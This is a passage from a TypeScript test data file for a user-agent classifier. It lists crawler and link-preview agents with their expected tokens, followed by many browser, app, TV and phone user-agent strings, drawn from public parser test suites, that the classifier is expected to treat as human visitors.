        ua: "IlTrovatore/1.2 (IlTrovatore; http://www.iltrovatore.it/bot.html; bot@iltrovatore.it)",
        token: "IlTrovatore",
        category: "other",
      },
      { ua: "TLSProber/0.8", token: "TLSProber", category: "other" },
      {
        ua: "Accoona-AI-Agent/1.1.1 (crawler at accoona dot com)",
        token: "Accoona-AI-Agent",
        category: "other",
      },
      { ua: "COMODO SSL Checker", token: "Comodo SSL Checker", category: "other" },
      {
        ua: "Buscaplus Robi/1.0 (http://www.buscaplus.com/robi/)",
        token: "Buscaplus Robi",
        category: "other",
      },
    ],
  "feed services ua-parser2 lists among its feed readers, whose names are not taken as people's (browscap's robots)":
    [
      { ua: "FeedBlitz/1.0", token: "unknown", category: "other" },
      { ua: "FeedForAll rss2html.php v2", token: "unknown", category: "other" },
      { ua: "Alltop/1.1", token: "unknown", category: "other" },
    ],
  "a thumbnail fetcher whose address stands in a browser's agent where no known product names it (browscap's test agents)":
    [
      {
        ua:
          "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) https://thumbs.providerlijst.com// v1.0 Safari/537.21",
        token: "unknown",
        category: "other",
      },
    ],
  "Office for Mac's programs checking a clicked link under their own name (Shopify/browser_sniffer's and browscap's tests)":
    [
      {
        ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X) Excel/14.34.0",
        token: "Microsoft Office",
        category: "social_preview",
      },
      {
        ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X) PowerPoint/14.43.0",
        token: "Microsoft Office",
        category: "social_preview",
      },
    ],
  "a screenshot maker writing a host where a browser names itself, no known product (browscap's robots)": [
    {
      ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) domain.com Safari/538.1",
      token: "unknown",
      category: "other",
    },
  ],
};

/** People's software by kind: each must stay human. */
export const PEOPLE_KINDS: Record<string, string[]> = {
  "an app and a WebDAV client known by the names commenthol/ua-parser2 gives them (browscap's test agents)": [
    "Coursera-Mobile/1.3.0-1192",
    "Coursera-Mobile 1.2.1",
    "WEBDAV Client",
  ],
  "a toolbar, a Bing app, a site manager and a VPN client commenthol/ua-parser2 files among its bots (uap-core's and Mobile-Detect's test agents)":
    [
      "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; StumbleUpon.com 1.733; SV1)",
      "Mozilla/5.0 (Linux; Android 4.4.4; HTC One_M8 Build/KTU84P) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/33.0.0.0 Mobile Safari/537.36 BingWeb/5.2.0.20140710",
      "Mozilla/5.0 (Linux; U; en-gb) AppleWebKit/418.9.1 (KHTML, like Gecko) SiteCon/8.10.9",
      "PAN GlobalProtect/5.2.4 Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/602.1 (KHTML, like Gecko) PanGPUI Version/10.0 Safari/602.1",
    ],
  "apps whose name or network stack holds a tool's word past their first name (the libs and OPAWG parts)": [
    "Shopify Ping/iOS/1.0.0 (iPhone9,1 Simulator/com.shopify.ping/11.1.0)",
    "fm.castbox.audiobook.radio.podcast/240611306 (Linux; U; Android 13; en_GB; Lenovo TB125FU; Build/TP1A.220624.014; Cronet/126.0.6423.0)",
  ],
  "software whose agent joins the words of the name the lists give it or glues its release to it (browscap's test agents)":
    [
      "ProPresenter3",
      "Apple-PubSub/65",
    ],
  "a browser and a media player ending their agent with their own home page (browscap's test agents)": [
    "Mozilla/5.0 (Windows; U; Windows NT 5.2; en-US) AppleWebKit/534.34 (KHTML, like Gecko)  QtWeb Internet Browser/3.8.5 http://www.QtWeb.net",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_4) AppleWebKit/600.7.12 (KHTML, like Gecko) Safari/531.2+ Miro/6.0 (http://www.getmiro.com/)",
  ],
  "desktop and TV software": [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 AdobeCEP/11.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.8 (KHTML, like Gecko) Slack_SSB/2.0.3",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Avira/131.0.0.0",
    "Mozilla/5.0 (Linux; NetCast; U) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 SmartTV/10.0 Colt/2.0",
    "Transmit/5.6.0",
    // an app's test build on an iPad (ua-parser-js's test agents): "Test" is not its first product's name
    "APP-BE Test/1.0 (iPad; Apple; CPU iPhone OS 7_0_2 like Mac OS X)",
  ],
  "in-app browsers ending with their own '…Browser' and its home page (arp242/isbot's browser tests)": [
    "Mozilla/5.0 (Linux; Android 10; ONEPLUS A6003 Build/QKQ1.190716.003; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.99 Mobile Safari/537.36 StudoBrowser/3.17.6-android-studo.staging (https://studo.co/studo-browser-information-and-contact)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 StudoBrowser/3.16.0-ios-studo (https://studo.co/studo-browser-information-and-contact)",
  ],
  "EdgeHTML on the Xbox and Windows Mobile with Microsoft's later Chrome token (donatj/PhpUserAgent's tests)":
    [
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Safari/537.36 Edge/44.18363.8131",
      "Mozilla/5.0 (Windows Mobile 10; Android 10.0; Microsoft; Lumia 950XL) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Mobile Safari/537.36 Edge/40.15254.603",
    ],
  "set-top boxes naming their operator's STB or the YouView platform (avct/uasurfer's TV tests)": [
    "Mozilla/5.0, AppleWebKit/537.36, Chrome/92.0.4515.159, Safari/537.36, OPR/46.0.2207.0, OMI/4.22.1, VODAFONE_STB/7.2.A102.99ba.ngbd BCM7271/7.2.A102.99ba.ngbd/DCIW387/HIGH (Sagemcom_Broadband_SAS, DCIW387_UHD_VF_DE, Wired)",
    "YouViewHTML/1.0 AppleWebKit/605.1.15 (Sagemcom; RTIW387; RTIW387.002.P; CDS/0.6.216; API/4.0.0; PS/4.14.4) (+DVR+HTML+IPCMC+UHD+DASH+DRM)",
  ],
  "phones sold under a 'bot' name with a word after it, and a browser behind a company's ICAP proxy (browscap's test agents)":
    [
      "Mozilla/5.0 (Linux; Android 8.1.0; XBot_Senior) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.99 Mobile Safari/537.36",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.92 Safari/537.36 ICAPoHTTPS",
    ],
  "a feature phone's short brand with a hyphenated model (browscap's WAP browser)": ["Spice QT-75"],
  "an app named like a feed fetcher, naming the phone it is built for (browscap's test agents)": [
    "NewsBlur iPhone App v3.6",
    "NewsBlur iPad App v3.6",
  ],
  "an app's bundle id as its whole agent (opawg/user-agents-v2's apps)": [
    "com.IDEngineering.bbc.english.learning",
    "com.IDEngineering.Learn.English_6_minutes",
  ],
  "a feature phone's brand and model with the screen it reports (browscap's browser test agent)": [
    "TIANYU-KTOUCH/A930/Screen-240X320",
  ],
  "a phone whose build id holds a domain name (uap-core's test agents)": [
    "Mozilla/5.0 (Linux; Android 4.1.2; IM-A850 S/K Build/VEGAVIET.COM JELLYBEAN V1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/30.0.1599.82 Mobile Safari/537.36",
  ],
  "exotic browsers naming themselves '…Browser' with a version": [
    // uap-core's test agents; the generic bare-name pattern took them before
    "SecretBrowser/007",
    "aolbrowser/1.1 InterCon-Web-Library/1.2",
  ],
  "podcast apps known by their name alone": [
    // opawg/user-agents-v2's apps (MIT), as its samples print them: the generic bare-name pattern took them before
    "HyperCatcher/1",
    "ARD-Audiothek/31",
  ],
  "in-app browsers of messaging apps whose link-preview fetchers share their name": [
    // Viber's in-app browser (agent lists in public code); its fetcher sends "Viber" alone
    "Mozilla/5.0 (Linux; Android 10; SM-G986B Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.96 Mobile Safari/537.36 Viber/16.5.0.18",
  ],
  "OS components and in-app browsers": [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 7.0; SM-G930F Build/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/64.0.3282.137 Mobile Safari/537.36 Onefootball/Android/9.10.6",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
  ],
  "quick apps whose agent carries JSON with quotes and braces (no payload; Yauaa's test agents)": [
    'Mozilla/5.0 (Linux; Android 10; ELE-L29 Build/HUAWEIELE-L29; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.134 Mobile Safari/537.36 hap/1110/huawei com.huawei.fastapp/13.5.1.300 fruitcrush.HUAWEI/1.0.4 ({"packageName":"fastappList","type":"other","extra":"{}"})',
  ],
  "apps naming themselves before a whole browser agent with a space (Yauaa's test agents)": [
    "15min/3.2.18 Mozilla/5.0 (iPhone; CPU iPhone OS 13_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 EmbeddedBrowser DeviceUID: 4111C299-2E0A-430D-994A-E63AC824065F",
  ],
  "browsers Yauaa's test cases name, after a whole browser agent (Kinza, Qwant, Presearch)": [
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.142 Safari/537.36 Kinza/5.6.3",
    "Mozilla/5.0 (Android 10; Mobile; rv:77.0) Gecko/77.0 Firefox/77.0 QwantMobile/4.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Mobile Safari/537.36 Presearch (Tempest)",
  ],
  "set-top boxes naming their TV platform after a browser agent (Yauaa's test agents)": [
    "Mozilla/5.0 (Linux; x86_64 GNU/Linux) AppleWebKit/601.1 (KHTML, like Gecko) Version/8.0 Safari/601.1 WPE",
  ],
  "media apps by product name alone": [
    "Barca/2.8.2",
    "Doppler 2.9.5.4",
    "Pocket Casts",
    "Spotify/1.0",
    "foobar2000/1.2.3",
  ],
  "exotic browsers": [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Herring/95.5.4464.65",
    "Mozilla/5.0 (AmigaOS; U; AmigaOS 1.3; en-US; rv:1.8.1.21) Gecko/20090303 Timberwolf/2.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 SLBrowser/9.0.5.12181 SLBChan/105 SLBVPV/64-bit",
    // bare or short names after the browser's own, known from uap-core's browser families
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.31339 Safari/537.36 Sparrow",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Talon",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 ABB/3.7.1",
  ],
  "browsers with an engine of their own after a desktop platform (uap-core's and ua-parser-js's test agents)":
    [
      "Mozilla/5.0 (X11; Linux x86_64; rv:3.0) Goanna/20170207 PaleMoon/27.1.0",
      "Mozilla/5.0 (Linux; x86_64) LibWeb+LibJS/1.0 Ladybird/1.0",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:109.0) Servo/1.0 Firefox/111.0",
      // macOS apps' own web views end at WebKit's engine part
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_2) AppleWebKit/536.26.14 (KHTML, like Gecko)",
    ],
  "TVs whose Qt WebKit reports an unknown platform on their own chip (uap-core's test agents)": [
    "Mozilla/5.0 (Unknown; Linux armv7l) AppleWebKit/537.1+ (KHTML, like Gecko) Safari/537.1+ HbbTV/1.1.1 ( ;LGE ;NetCast 4.0 ;03.01.42 ;1.0M ;)",
  ],
  "desktop podcatchers and feed readers giving their home page beside their platform": [
    "Juice/2.2 (Windows) +http://juicereceiver.sf.net/",
    "Liferea/0.x.x (Linux; en_US.UTF-8; http://liferea.sf.net/)",
  ],
  "desktop, mail and GIS software known by its name alone (uap-core's families)": [
    "RCM CardDAV plugin/2.0.4",
    "ExchangeServicesClient/14.02.0051.000",
    "CITA RSS Aggregator/2.7",
    "ArcGIS Client Using WinInet",
    "JOSM/1.5 (15492 nl) Windows 7 64-Bit Java/1.8.0_221",
  ],
  // names no vendor runs a fetcher under: the name alone is the person's client (uap-core's test data)
  "desktop mail and office clients by their name alone": [
    "The Bat! 4.0.0.22",
    "OC/15.0.5071.1000 (Skype for Business)",
  ],
  // the page a person opens from Office or a mail app is read in a browser, a webview or the app's in-app browser,
  // which say so with a browser's engine: the person's visit (Office's own link check is automation, above)
  "browsers, webviews and in-app browsers opened from Office and mail apps": [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0 OneOutlook/1.2024.619.100",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_4 like Mac OS X) AppleWebKit/601.1 (KHTML, like Gecko) Outlook-iOS-Android/1.0 Mobile/13G35 Safari/601.1.46",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 Thunderbird/115.8.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Mailspring/1.13.3 Chrome/108.0.5359.215 Electron/22.3.26 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 mailapp/6.5.4",
  ],
  // social and messaging apps whose vendors also fetch links under the app's name: the app names its device
  "apps of services that also run fetchers, naming their device": [
    "Pinterest for Android/3.6.2 (klte; 4.4.2)",
    "Pinterest/3.2 CFNetwork/672.0.8 Darwin/14.0.0",
  ],
  // browsers the new names-only lists also hold (COUNTER-Robots lists ELinks; GoAccess files apps among crawlers)
  "browsers and apps a robots list also names": [
    "ELinks/0.16.1.1 (textmode; Linux 6.5.0 x86_64; 213x56-2)",
    "ELinks (0.4pre5; Linux 2.6.10-ac7 i686; 80x33)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 LinkedInApp/9.29.4066",
  ],
  "desktop and podcast software known by its name alone (browscap's applications, as its test agents print them)":
    [
      "ProPresenter",
      "OpenOffice/4.0.0",
      "bPod",
    ],
  "old WebKit builds naming Safari inside the engine's parentheses (ua-parser-js's and uap-core's tests)": [
    "Mozilla/5.0 (Windows; U; Windows NT 5.1; de-CH) AppleWebKit/523.15 (KHTML, like Gecko, Safari/419.3) Arora/0.2",
    "Mozilla/5.0 (X11; U; Linux; de-DE) AppleWebKit/527  (KHTML, like Gecko, Safari/419.3) konqueror/4.3.1",
  ],
  "a podcast app whose own name and a downloader's stand apart (opawg's sample agents)": [
    "Podcast Provider 0.34-9e9009e7 for Radio Downloader 0.34-9e9009e7",
  ],
  "apps whose names hold a service's, a library's or an HTTP client's (opawg's apps, Yauaa's test agents)": [
    "Storytel/24.52 (Android 14; samsung SMG991U1) Release/2288809",
    "Hyper/3 CFNetwork/893.14.2 Darwin/17.3.0",
    "DataDogApp/0.8.12 CFNetwork/811.5.4 Darwin/16.6.0",
    "BBCNews/172 (iPhone10,4; iOS 13.1.3) BBCSMP/36.1.0 BBCHTTPClient/7.1.1",
  ],
  "OS components, voice assistants, car media engines and apps named for their platform (opawg, Yauaa)": [
    "Apple-iPhone3C1/1104.257",
    "Amazon;Echo_Dot;27d4dfe427b34d57995b463e5d63198d;;tpapi;3.199.422",
    "gcc_linux_MIB3Premium_esolutions_CLU35/1.0 Cinemo/2020.27.9.0",
    "MastodonAndroid/1.2.2",
  ],
  "an app reporting German survey keys ('angebot') and WeChat Work reporting its settings (Yauaa's tests)": [
    'ntvmobil iPhone 7.0 Mozilla/5.0 (iPhone; U; CPU iPhone OS like Mac OS X; de-DE) AppleWebKit/600.1.4 (KHTML, like Gecko) Version/8.0 Mobile/12F70 Safari/600.1.4 ntvAgof (agof={"angebot":"appntv","plattform":"iphone"})',
    "Language/zh ColorScheme/Light DistType/publish wxwork/4.0.20 (MicroMessenger/6.2) WeChat/2.0.4",
  ],
  "podcast apps sending their one-word name alone, as opawg's list anchors it": [
    "Playapod/2.4.11",
    "Xiaoyuzhou/1.9.0",
    // patterns that anchor the name before a version class ("^Podcini/\\d", "^MegaSeg/\\d", "^Outcast[/ ]")
    "Podcini/4.6.2",
    "MegaSeg/6.3.2b11",
    "Outcast 3.1.6",
  ],
  "browsers reporting an extension or their distribution after the browser (bowser's, Yauaa's tests)": [
    "Mozilla/5.0 (Windows NT 5.1; rv:6.0) Gecko/20100101 Firefox/6.0 FirePHP/0.6",
    "Mozilla/5.0 (X11; Linux i686; en; rv:12.3) Gecko/2000000000 Firefox/8.8.8 Ubuntu",
  ],
  "desktop apps on Electron named like a crawler (opawg's Pocket Casts, Yauaa's WhatsApp)": [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) PocketCasts/2.2.0 Chrome/144.0.7559.220 Electron/40.6.1 Safari/537.36",
  ],
  "in-app browsers whose carrier field holds a crawler word": [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15G77 [FBAN/FBIOS;FBAV/194.0.0.38.99;FBBV/127868476;FBDV/iPhone7,2;FBMD/iPhone;FBSN/iOS;FBSV/11.4.1;FBSS/2;FBCR/OrangeBotswana;FBID/phone;FBLC/en_GB;FBOP/5;FBRV/128807018]",
  ],
  "feature phones starting their agent with a brand uap-core's device parsers know and a model (browscap's tests)":
    [
      "Lemon B556",
      "Videocon_S351_Wap Browser",
    ],
  "Android phones and tablets sold under a 'bot' name, the model ending the platform (browscap's test agents)":
    [
      "Mozilla/5.0 (Linux; Android 7.0; M bot 60 Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.91 Mobile Safari/537.36",
      "Mozilla/5.0 (Linux; Android 6.0; VR BOT 552 PLUS) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.99 Mobile Safari/537.36",
      "Mozilla/5.0 (Linux; Android 7.1.2; M_bot_tab_71 Build/NHG47K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.83 Safari/537.36",
    ],
  "browsers and apps writing their own product after the browser's (browscap's patterns and test agents)": [
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/43.0.2272.76 Safari/537.36 Seznam.cz/2.0.4",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/43.0.2311.135 Safari/537.36 Polarity/8.0.2",
    "Mozilla/5.0 (iPad; CPU OS 11_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15F79 Safari/601.1 bingipadclient",
  ],
  "a vendor's customisation or toolbar named by its domain, in square brackets or as '… Toolbar' (Yauaa's tests)":
    [
      "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; eBook Maestro [ebookmaestro.com]; .NET CLR 2.0.50727)",
      "Mozilla/5.0 (Windows; U; Windows NT 6.0; en-US; rv:1.9.0.19; WUID=724b88e9e000a171f829c431c37c7fe1; WTB=2937) Gecko/2010031422 Ant.com Toolbar 1.5 Firefox/3.0.19 (.NET CLR 3.5.30729)",
    ],
  "podcast apps sending their name alone or with their home page (opawg's apps)": [
    "Castria/1.0 (+https://castria.app)",
    "Bullhorn",
    "TURTLECAST/0.5.1",
  ],
  "apps' webviews writing the hardware model with the iOS it runs (Shopify/browser_sniffer's tests)": [
    "Mozilla/5.0 (iPhone17,5; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 FireKeepers/1.7.0",
    "Mozilla/5.0 (iPad15,4; CPU OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 BetMGM_NJ/5.7.1",
  ],
  "an ISP's accelerating proxy and a phone maker's id after a phone's browser agent (Mobile-Detect's tests)":
    [
      "Mozilla/5.0 (Linux; Android 4.0.4; BNTV600 Build/IMM76L) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/28.0.1500.94 Safari/537.36 Hughes-PFB/CID5391275.AID1376709964",
      "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; Microsoft; Lumia 535) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537 BMID/E679DAAB6F",
    ],
  "iOS browsers writing a Version/ of their own, not Safari's (browscap's and Yauaa's tests)": [
    "Mozilla/5.0 (iPad; CPU OS 10_3_3 like Mac OS X) AppleWebKit/603.3.8 (KHTML, like Gecko) Mobile/14G60 Version/13.1 (Ecosia ios@4.1.10.875) Safari/604.1",
    "Mozilla/5.0 (iPhone 4S; CPU iPhone OS 5_0_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Version/6.0 MQQBrowser/5.0.4 Mobile/9A406 Safari/8536.25",
    "Mozilla/5.0 (iPhone 6; CPU iPhone OS 10_2_1 like Mac OS X) AppleWebKit/602.4.6 (KHTML, like Gecko) Version/6.0 MQQBrowser/6.9.1 Mobile/14D27 Safari/8536.25 MttCustomUA/2",
  ],
  "a browser extension appending its name to the person's agent (the user-agents package's agents)": [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 15_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.8010.48 Safari/537.36 Honorlock",
  ],
  "a browser ending with a bare '(compatible)' that names nobody (browscap's Sailfish agents)": [
    "Mozilla/5.0 (Maemo; Linux; U; Jolla; Sailfish; like Android) AppleWebKit/538.1 (KHTML, like Gecko) Mobile Safari/538.1 (compatible)",
  ],
  "a toolbar named by its domain and version, and a browser's 'preview' release (uap-core's PGTS agents)": [
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; StumbleUpon.com 1.760; .NET CLR 1.1.4322)",
    "Opera/7.60 preview 4 (Mac OS X 10.3)",
  ],
  "a Chromium browser named like a crawler, numbered as its Chrome build, and a phone sold as 'POWER BOT' (agentzero's tests)":
    [
      "Mozilla/5.0 (Windows NT 6.3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/33.0.1750.157 CoRom/33.0.1750.157 CocCoc/33.0.1750.157 Safari/537.36",
      "Mozilla/5.0 (Linux; Android 6.0; POWER BOT) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/106.0.0.0 Mobile Safari/537.36",
    ],
  "browsers as a server's log encoded their agent (Yauaa's and uap-core's tests)": [
    "Mozilla%2F5.0+%28Windows+NT+6.1%29+AppleWebKit%2F537.36+%28KHTML%2C+like+Gecko%29+Chrome%2F79.0.3945.130+Safari%2F537.36",
    "Mozilla/5.0+(iPhone;+CPU+iPhone+OS+9_3_1+like+Mac+OS+X)+AppleWebKit/601.1.46+(KHTML,+like+Gecko)+Version/9.0+Mobile/13E238+Safari/601.1",
  ],
  "Internet Explorer with its patches and ISP brandings, Pale Moon, UC Browser, Opera on the Wii (three browser sniffers' tests)":
    [
      "Mozilla/4.0 (compatible; MSIE 5.01; Windows NT 5.0; Q312461; T312461)",
      "Mozilla/4.0 (compatible; MSIE 5.01; Windows NT 5.0; Wanadoo 5.1)",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:52.9) Gecko/20100101 Goanna/4.1 Firefox/52.9 PaleMoon/28.0.0",
      "Mozilla/5.0 (Linux; U; Android 4.3; zh-CN; SCH-N719 Build/JSS15J) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 UCBrowser/9.9.5.489 U3/0.8.0 Mobile Safari/533.1",
      "Opera/9.30 (Nintendo Wii; U; ; 2047-7;en)",
    ],
  "a browser and apps naming only themselves, known by the names agentzero's browser and app mappings give them (browscap's and opawg's test agents)":
    [
      "Dooble/0.07 (de_CH) WebKit",
      "AndroidDownloadManager",
      "FB4A/Facebook",
    ],
  "feed readers and mail clients naming only themselves, known by the names Debian's packages and user-agent-utils give them (browscap's and opawg's test agents)":
    [
      "Akregator/4.12.3; syndication SUSE",
      "Newsboat/2.29.0 (Linux x86_64)",
      "Eudora/6.2.4b8 (MacOS)",
      "CamelHttpStream/1.0 Evolution/3.2.3",
    ],
  "Firefox and Pale Moon with the Masking Agent add-on in the platform's place (browscap's and Browser.php's tests)":
    [
      "Mozilla/5.0 (masking-agent; rv:36.0) Gecko/20100101 Firefox/36.0",
      "Mozilla/5.0 (masking-agent; rv:24.0) Gecko/20130926 Firefox/24.0 PaleMoon/24.0.2",
    ],
  "TVs and set-top boxes naming their brand, model and connection after their firmware (Yauaa's TV tests), and '@' in a locale or a browser's product":
    [
      "Opera/9.80 (Linux mips) Presto/2.12.407 Version/12.50 , KreaTV/15.16.08.09 (Verizon, VMS1100, wired)[0000094038813045/06.14.1]",
      "WebKit/4.2.5, (CE-HTML/1.0 NETTV/3.3.0 NewB) PHILIPS-AVM-2013/1.35 (Philips, BDP5700, wireless)",
      // a made-up probe of the form, which only the TV rule tells (a firmware and the device part)
      "ExampleTV/2.1.0 (Example, EX-100, wired)",
      "Mozilla/5.0 (compatible; Konqueror/3.1; de, DE, de_DE@euro)",
      "Mozilla/5.0 (Linux; Android 9; Redmi 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/101.0.4951.41 Mobile Safari/537.36 (Ecosia android@101.0.4951.41)",
    ],
  "a game launcher's overlay browser naming itself like a domain where a browser names itself (browscap's tests)":
    [
      "Mozilla/5.0 (Windows NT 6.2; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Battle.net/1.3.1.6087 Safari/537.36",
    ],
};
